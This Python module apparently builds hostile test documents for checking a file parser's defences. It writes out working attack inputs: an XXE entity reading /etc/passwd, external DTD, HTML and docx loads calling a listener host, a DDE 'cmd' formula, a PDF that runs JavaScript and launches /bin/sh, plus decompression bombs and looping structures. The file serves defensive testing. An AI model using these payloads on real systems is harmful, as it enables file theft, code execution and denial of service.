"""Documents made to do harm: loops, bombs inside packages, calls to the network, endless entities, depth, damage."""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image
from reportlab.pdfgen import canvas

from tocsin.readers.cfb_write import compound_file
from tocsin.readers.mapi import MapiAttachment, MapiMessage
from tocsin.readers.tnef_write import tnef_bytes

Made = Iterator[tuple[str, str, bytes]]
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def documents(listener: str) -> Made:
    """Yield label, file name and bytes; documents that would call out name ``listener`` (host:port)."""
    yield "XML, a billion laughs", "laughs.xml", _laughs()
    yield (
        "XML that reads /etc/passwd",
        "entity.xml",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    )
    yield "XML with a DTD on the network", "dtd.xml", f'<!DOCTYPE x SYSTEM "http://{listener}/x.dtd"><x>a</x>'.encode()
    yield "XML, 200,000 deep", "deep.xml", b"<a>" * 200_000 + b"x" + b"</a>" * 200_000
    yield "JSON, 200,000 deep", "deep.json", b"[" * 200_000 + b"]" * 200_000
    yield "HTML, 100,000 deep", "deep.html", b"<html>" + b"<div>" * 100_000 + b"x"
    yield "HTML that loads from the network", "load.html", _loading_html(listener)
    yield "RTF, 200,000 deep", "deep.rtf", b"{\\rtf1 " + b"{" * 200_000 + b"x"
    yield "mail inside mail, 500 deep", "deep.eml", _nested_mail(500)
    yield "mail of 20,000 parts", "parts.eml", _mail_of_parts(20_000)
    yield (
        "mail with a header of 20 MB",
        "header.eml",
        b"From: a@b.example\nTo: " + b"x@y.example, " * 1_500_000 + b"\nSubject: x\n\nbody",
    )
    yield "message in message, 300 deep", "winmail.dat", _nested_tnef(300)
    yield "OLE whose sectors loop", "loop.doc", _looping_ole()
    yield "docx that loads from the network", "load.docx", _loading_docx(listener)
    yield "docx bomb, 1 GB of XML", "bomb.docx", _bomb_docx()
    yield "xlsx with a lone far cell", "far.xlsx", _xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    yield (
        "xlsx with a cell of 100 MB",
        "cell.xlsx",
        _xlsx(f'<row r="1"><c t="inlineStr"><is><t>{"x" * (100 << 20)}</t></is></c></row>'),
    )
    yield (
        "xlsx with DDE and macros",
        "dde.xlsx",
        _xlsx("<row r=\"1\"><c><f>cmd|'/C calc'!A0</f><v>1</v></c></row>", [("xl/vbaProject.bin", b"\xd0\xcf")]),
    )
    yield "xlsx with 20 million cells", "cells.xlsx", _xlsx(f"<row>{'<c><v>1</v></c>' * 16_000}</row>" * 1_250)
    yield "PDF of 10,000 pages", "pages.pdf", _pdf(10_000)
    yield "PDF that runs and calls", "launch.pdf", _calling_pdf(listener)
    yield "PDF whose pages hold each other", "loop.pdf", _looping_pdf()
    yield "PDF with a stream bomb, 2 GB", "bomb.pdf", _bomb_pdf()
    yield "PDF page of 10 km", "giant.pdf", _pdf(1, (20_000_000, 20_000_000))
    yield "picture of 60,000 by 60,000", "giant.png", _giant_png()
    yield "picture of 19,000 by 19,000", "large.png", _drawn((19_000, 19_000))
    yield "text line of 200 MB", "line.txt", b"Ann Lee " * (25 << 20)
    yield "table of 300,000 columns", "wide.csv", b"a," * 300_000 + b"\n" + b"1," * 300_000 + b"\n"
    yield "200 MB of nothing", "zeros.bin", bytes(200 << 20)
    yield "encrypted by ransomware", "list.xlsx.locked", os.urandom(300_000)
    yield (
        "calendar folded over 2 million lines",
        "fold.ics",
        b"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:x\n" + b" y\n" * 2_000_000,
    )
    yield (
        "signed message without end",
        "loop.p7m",
        bytes.fromhex("308006092a864886f70d010702") + b"\xa0\x80\x30\x80" * 100_000,
    )


def damaged(files: dict[str, bytes], copies: int, seed: int) -> Made:
    """Yield damaged copies of sound files: bytes changed, cut off, doubled."""
    luck = random.Random(seed)
    for name, data in files.items():
        for number in range(copies):
            yield f"damaged {name}", f"{number}-{name}", _spoilt(data, luck)


def _spoilt(data: bytes, luck: random.Random) -> bytes:
    out = bytearray(data)
    for _ in range(luck.randint(1, 12)):
        at = luck.randrange(len(out))
        what = luck.randrange(4)
        if what == 0:
            out[at : at + 4] = struct.pack("<I", luck.choice([0, 1, 0x7FFFFFFF, 0xFFFFFFFF, luck.getrandbits(32)]))
        elif what == 1:
            out[at] = luck.randrange(256)
        elif what == 2 and len(out) > 200:
            del out[at : at + luck.randint(1, 100)]
        else:
            out[at:at] = out[at : at + luck.randint(1, 200)]
    return bytes(out) or b"\0"


def _laughs() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f"<!DOCTYPE x [{entities}]><x>&a11;</x>".encode()


def _loading_html(listener: str) -> bytes:
    tags = [
        f'<img src="http://{listener}/i">',
        f'<script src="http://{listener}/s"></script>',
        f'<link rel=stylesheet href="http://{listener}/c">',
    ]
    return f"<html><body>{''.join(tags)}<iframe src='http://{listener}/f'></iframe>Ann</body></html>".encode()


def _nested_mail(times: int) -> bytes:
    data = b"From: a@b.example\nSubject: end\n\nAnn"
    for _ in range(times):
        data = b"From: a@b.example\nSubject: x\nContent-Type: message/rfc822\n\n" + data
    return data


def _mail_of_parts(count: int) -> bytes:
    part = b"--b\nContent-Type: text/plain\n\nAnn\n"
    return (
        b"From: a@b.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
        + part * count
        + b"--b--\n"
    )


def _nested_tnef(times: int) -> bytes:
    message = MapiMessage({0x0037: "end", 0x1000: "Ann"})
    for _ in range(times):
        message = MapiMessage({0x0037: "x"}, [], [MapiAttachment({0x3001: "y"}, None, message)])
    return tnef_bytes(message)


def _looping_ole() -> bytes:
    data = bytearray(compound_file({"WordDocument": b"w" * 9000, "1Table": b"t" * 9000}))
    (fat,) = struct.unpack_from("<I", data, 76)
    for entry in range(20):
        struct.pack_into("<I", data, 512 + fat * 512 + entry * 4, entry)
    return bytes(data)


def _package(parts: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return out.getvalue()


def _relations(rows: list[tuple[str, str, str]]) -> bytes:
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="{_RELATIONS}">{inner}</Relationships>'.encode()


def _loading_docx(listener: str) -> bytes:
    outer = ' TargetMode="External"'
    rows = [("attachedTemplate", f"http://{listener}/t.dotm", outer), ("image", f"http://{listener}/i.png", outer)]
    body = f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>Ann</w:t></w:r></w:p></w:body></w:document>'.encode()
    return _package([("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", _relations([("officeDocument", "word/document.xml", "")])), ("word/document.xml", body), ("word/_rels/document.xml.rels", _relations(rows))])  # fmt: skip


def _bomb_docx() -> bytes:
    body = f'<w:document xmlns:w="{_WORD}"><w:body>'.encode() + b"<w:p/>" * (1 << 27)
    return _package([("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", _relations([("officeDocument", "word/document.xml", "")])), ("word/document.xml", body)])  # fmt: skip


def _xlsx(rows: str, more: list[tuple[str, bytes]] | None = None) -> bytes:
    sheet = f'<worksheet xmlns="{_SHEET}"><dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData></worksheet>'.encode()
    book = f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r0"/></sheets></workbook>'.encode()
    parts = [("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", _relations([("officeDocument", "xl/workbook.xml", "")])), ("xl/workbook.xml", book)]  # fmt: skip
    parts += [
        ("xl/_rels/workbook.xml.rels", _relations([("worksheet", "worksheets/sheet1.xml", "")])),
        ("xl/worksheets/sheet1.xml", sheet),
    ]
    return _package([*parts, *(more or [])])


def _pdf(pages: int, size: tuple[int, int] = (300, 300)) -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out, pagesize=size)
    for number in range(pages):
        page.drawString(20, 20, f"Ann Lee, page {number}")
        page.showPage()
    page.save()
    return out.getvalue()


def _calling_pdf(listener: str) -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(50, 50, "Ann Lee")
    page.linkURL(f"http://{listener}/u", (0, 0, 99, 99))
    page.save()
    action = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://{listener}/j'\\);) /Next << /S /Launch /F (/bin/sh) >> >>"
    return out.getvalue().replace(b"/Type /Catalog", b"/Type /Catalog " + action.encode())


def _looping_pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 9 /Kids [2 0 R 3 0 R] >>",
        b"<< /Type /Pages /Count 9 /Kids [2 0 R] /Parent 3 0 R >>",
    ]
    out = b"%PDF-1.4\n" + b"".join(b"%d 0 obj %s endobj\n" % (n, body) for n, body in enumerate(objects, 1))
    return out + b"trailer << /Root 1 0 R /Size 4 >>\n%%EOF"


def _bomb_pdf() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"(x) Tj " * 149_797) for _ in range(2048)) + packer.flush()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >> stream\n%s\nendstream" % (len(packed), packed)]  # fmt: skip
    out = b"%PDF-1.4\n" + b"".join(b"%d 0 obj %s endobj\n" % (n, body) for n, body in enumerate(objects, 1))
    return out + b"trailer << /Root 1 0 R /Size 5 >>\n%%EOF"


def _drawn(size: tuple[int, int]) -> bytes:
    out = io.BytesIO()
    Image.new("1", size, 1).save(out, "PNG")
    return out.getvalue()


def _giant_png() -> bytes:
    data = bytearray(_drawn((100, 100)))
    data[16:24] = struct.pack(">II", 60_000, 60_000)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)
